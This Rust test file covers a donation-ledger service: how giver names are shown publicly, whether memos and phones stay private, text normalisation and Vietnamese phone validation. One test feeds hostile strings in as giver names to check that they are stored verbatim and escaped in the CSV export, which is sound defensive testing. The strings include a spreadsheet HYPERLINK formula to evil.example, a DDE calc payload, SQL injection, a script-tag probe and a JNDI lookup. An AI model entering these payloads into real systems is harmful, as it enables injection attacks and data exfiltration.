//! Who gave: what is kept, what the public sees of it, and text that would like to be more than text.

use serde_json::{Value, json};

use crate::books::{audit, books, counts, refuses};
use crate::harness::TestApp;

fn giver(name: &str) -> Value {
    json!({"kind": "PERSON", "name": name})
}

/// What everybody can read of a code: its page, a search that finds it, its leaf.
fn all_public(app: &TestApp, code: &str) -> (Value, String) {
    app.wait_for_log();
    let page = app.anonymous().get(&format!("/api/v1/public/entries/{code}"), 200);
    let list = app.anonymous().get_text("/api/v1/public/entries?limit=200", 200);
    let leaf = app.database.text(&format!("SELECT convert_from(leaf, 'UTF8') FROM log_leaf WHERE entry = '{code}'"));
    (page, format!("{list}{leaf}"))
}

fn hits(app: &TestApp, query: &str) -> usize {
    app.anonymous().get(&format!("/api/v1/public/entries?q={query}"), 200)["items"].as_array().unwrap().len()
}

#[test]
fn the_public_sees_of_a_name_what_its_owner_chose() {
    let app = TestApp::start();
    let officer = app.officer_of("23095");
    let of = |kind: &str, name: &str, display: Option<&str>| {
        app.gift(json!({"giver": {"kind": kind, "name": name, "phone": "0912345678"}, "display": display}))
    };
    // Endings that no typing program makes of a tone: a search would read those again.
    let cases = [
        ("PERSON", "Trịnh Quốc Thạchqa", None, None),
        ("PERSON", "Trịnh Quốc Thạchqb", Some("ANONYMOUS"), None),
        ("PERSON", "Trịnh Quốc Thạchqc", Some("MASKED"), Some("Trịnh Q. T.")),
        ("PERSON", "Trịnh Quốc Thạchqd", Some("FULL_NAME"), Some("Trịnh Quốc Thạchqd")),
        ("ORGANISATION", "Công ty Thạchqe", None, Some("Công ty Thạchqe")),
        ("ORGANISATION", "Công ty Thạchqk", Some("ANONYMOUS"), None),
        ("HOUSEHOLD_BUSINESS", "Tạp hóa Thạchqg", None, None),
        ("HOUSEHOLD_BUSINESS", "Tạp hóa Thạchqh", Some("MASKED"), Some("Tạp H. T.")),
    ];
    for (kind, name, display, shown) in cases {
        let gift = of(kind, name, display);
        let booked = books(&app, &officer, &gift);
        let (page, everything) = all_public(&app, booked["code"].as_str().unwrap());
        assert_eq!(page.get("giver").and_then(Value::as_str), shown, "{name} {display:?}");
        let last = name.split(' ').next_back().unwrap();
        let full = shown == Some(name);
        assert_eq!(everything.contains(last), full, "{name} {display:?}: {everything}");
        let folded = last.to_lowercase().replace('ạ', "a");
        assert_eq!(hits(&app, &folded), usize::from(full), "{folded}");
        assert!(!everything.contains("0912345678") && !everything.contains("912345678"));
        // The officer sees the whole of it.
        let own = officer.get(&format!("/api/v1/gifts/{}", gift["id"].as_str().unwrap()), 200);
        assert_eq!((&own["giver"]["name"], &own["giver"]["phone"]), (&json!(name), &json!("0912345678")));
    }
    // In the database names and phones stand nowhere in clear.
    let clear = app.database.number(
        "SELECT count(*) FROM party WHERE position('Thạch'::bytea IN name) > 0 OR position('0912345678'::bytea IN phone) > 0",
    );
    assert_eq!(clear, 0);
    refuses(&app, &officer, of("ORGANISATION", "Công ty", Some("MASKED")), 422, &[("/display", "NOT_A_PERSON")]);
    refuses(&app, &officer, app.gift(json!({"display": "FULL_NAME"})), 422, &[("/display", "NO_GIVER")]);
    refuses(&app, &officer, app.gift(json!({"display": "NAME"})), 422, &[("/display", "NOT_A_CHOICE")]);
    audit(&app);
}

#[test]
fn memos_wishes_and_bank_references_are_for_officers_only() {
    let app = TestApp::start();
    let officer = app.officer_of("23095");
    let secret = json!({"channel": "BANK_TRANSFER", "wish": "cho em beXYZZY", "memo": "UNG HO XYZZY 0912345678", "bank_reference": "FTXYZZY1"});
    let gift = app.gift(secret.clone());
    let booked = books(&app, &officer, &gift);
    let (page, everything) = all_public(&app, booked["code"].as_str().unwrap());
    assert!(!page.to_string().contains("XYZZY") && !everything.contains("XYZZY"));
    assert_eq!(hits(&app, "xyzzy"), 0);
    let own = officer.get(&format!("/api/v1/gifts/{}", gift["id"].as_str().unwrap()), 200);
    for field in ["wish", "memo", "bank_reference"] {
        assert_eq!(own["particulars"][field], secret[field]);
    }
    app.officer_of("23059").get(&format!("/api/v1/gifts/{}", gift["id"].as_str().unwrap()), 404);
    audit(&app);
}

#[test]
fn text_is_stored_in_nfc_and_emoji_are_kept() {
    let app = TestApp::start();
    let officer = app.officer_of("23095");
    let nfd = "Nguye\u{302}\u{303}n Thi\u{323} Hu\u{31b}o\u{31b}ng";
    let nfc = "Nguyễn Thị Hương";
    let emoji = "❤️👨‍👩‍👧‍👦🇻🇳 cố lên 💪🏽";
    let mut gift = app.gift(json!({"giver": giver(nfd), "display": "FULL_NAME", "wish": format!("  {emoji} "), "memo": nfd}));
    let booked = books(&app, &officer, &gift);
    let own = officer.get(&format!("/api/v1/gifts/{}", gift["id"].as_str().unwrap()), 200);
    assert_eq!(
        (&own["giver"]["name"], &own["particulars"]["wish"], &own["particulars"]["memo"]),
        (&json!(nfc), &json!(emoji), &json!(nfc))
    );
    let (page, _) = all_public(&app, booked["code"].as_str().unwrap());
    assert_eq!(page["giver"], nfc);
    assert_eq!(hits(&app, "%22huong%22"), 1);
    // Typed on another keyboard it is the same gift.
    gift["giver"]["name"] = json!(nfc);
    gift["wish"] = json!(emoji);
    assert_eq!(officer.post("/api/v1/gifts", gift, 200)["outcome"], "ALREADY_BOOKED");
    let only_emoji = app.gift(json!({"giver": giver("🌻"), "display": "FULL_NAME"}));
    let booked = books(&app, &officer, &only_emoji);
    assert_eq!(all_public(&app, booked["code"].as_str().unwrap()).0["giver"], "🌻");
    audit(&app);
}

#[test]
fn a_phone_is_vietnamese_and_written_in_one_way() {
    let app = TestApp::start();
    let officer = app.officer_of("23095");
    let with = |phone: Value| app.gift(json!({"giver": {"kind": "PERSON", "name": "Lê An", "phone": phone}}));
    for wrong in
        ["", "12", "091234567", "091234567890", "0912x45678", "+1 202 555 0100", "０９１２３４５６７８", "0912345678; DROP"]
    {
        refuses(&app, &officer, with(json!(wrong)), 422, &[("/giver/phone", "NOT_A_PHONE")]);
    }
    // Foreign, dead, of a landline whose area code was given up: each is told what to write.
    for (wrong, told) in [
        ("0044 20 7123 456", "nước ngoài"),
        ("0140 123 4567", "2018"),
        ("04 3822 4030", "02438224030"),
        ("08 3822 4030", "02838224030"),
        ("912345678", "10 chữ số"),
    ] {
        let problem = officer.post("/api/v1/gifts", with(json!(wrong)), 422);
        let error = &problem["errors"][0];
        assert_eq!((&error["pointer"], &error["code"]), (&json!("/giver/phone"), &json!("NOT_A_PHONE")), "{wrong}");
        assert!(error["detail"].as_str().unwrap().contains(told), "{error}");
    }
    refuses(&app, &officer, with(json!(912_345_678)), 422, &[("/giver/phone", "WRONG_SHAPE")]);
    let gift = with(json!("+84 (912) 345.678"));
    books(&app, &officer, &gift);
    let own = officer.get(&format!("/api/v1/gifts/{}", gift["id"].as_str().unwrap()), 200);
    assert_eq!(own["giver"]["phone"], "0912345678");
    // The same person again is the same party; another name on the same phone is not.
    for again in ["0912-345-678", "0084 912 345 678", "\u{202A}0912\u{a0}345\u{a0}678\u{202C}", "0912–345–678", "0912/345/678"]
    {
        books(&app, &officer, &with(json!(again)));
    }
    assert_eq!(counts(&app).of("party"), 1);
    // The number of eleven digits that became this one in 2018, from an old list.
    for old in ["0168 123 4567", "0381234567"] {
        let mut gift = with(json!(old));
        gift["giver"]["name"] = json!("Lê Cũ");
        books(&app, &officer, &gift);
    }
    assert_eq!(counts(&app).of("party"), 2);
    let mut child = with(json!("0912345678"));
    child["giver"]["name"] = json!("Lê Bình");
    books(&app, &officer, &child);
    assert_eq!(counts(&app).of("party"), 3);
    audit(&app);
}

#[test]
fn hostile_names_are_stored_verbatim_and_harmless_in_the_csv() {
    let app = TestApp::start();
    app.open_appeal("68", "LULUT");
    let officer = app.officer_of("23095");
    let names = [
        "=HYPERLINK(\"http://evil.example\",\"bấm\")",
        "+84-912",
        "-2+3+cmd|' /C calc'!A0",
        "-SUM(A1:A9)",
        "＝1+1",
        "Robert'); DROP TABLE gift; --",
        "' OR '1'='1",
        "<script>alert(1)</script>",
        "a\"b,c;d",
        "{{7*7}} ${jndi:ldap://x} %s %n",
        "\\'; SELECT pg_sleep(9); --",
    ];
    for name in names {
        let gift = app.gift(json!({"appeal": "LULUT", "giver": giver(name), "display": "FULL_NAME", "memo": name}));
        let booked = books(&app, &officer, &gift);
        let (page, _) = all_public(&app, booked["code"].as_str().unwrap());
        assert_eq!(page["giver"], name);
        let own = officer.get(&format!("/api/v1/gifts/{}", gift["id"].as_str().unwrap()), 200);
        assert_eq!((&own["giver"]["name"], &own["particulars"]["memo"]), (&json!(name), &json!(name)));
    }
    let text = app.anonymous().get_text("/api/v1/public/appeals/LULUT/ledger.csv", 200);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let column = reader.headers().unwrap().iter().position(|name| name == "giver").unwrap();
    let shown: Vec<String> = reader.records().map(|row| row.unwrap()[column].to_owned()).collect();
    let expected: Vec<String> = names
        .iter()
        .map(|name| if name.starts_with(['=', '+', '-', '@', '＝']) { format!("'{name}") } else { (*name).to_owned() })
        .collect();
    assert_eq!(shown, expected);
    assert_eq!(counts(&app).gifts(), names.len() as i64);
    audit(&app);
}
